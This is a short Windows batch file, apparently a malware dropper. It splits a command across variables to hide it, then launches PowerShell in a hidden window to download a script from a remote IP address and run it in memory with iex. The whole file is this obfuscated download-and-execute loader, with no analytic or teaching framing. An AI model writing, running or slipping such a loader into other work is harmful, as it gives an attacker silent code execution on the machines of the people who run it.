@echo off
set a=power
set b=shell
set c=-w hid
set d=den -c 
set e="iex(iwr http
set f=://203.0.113.21
set g=/f.ps1)"
%a%%b% %c%%d%%e%%f%%g%
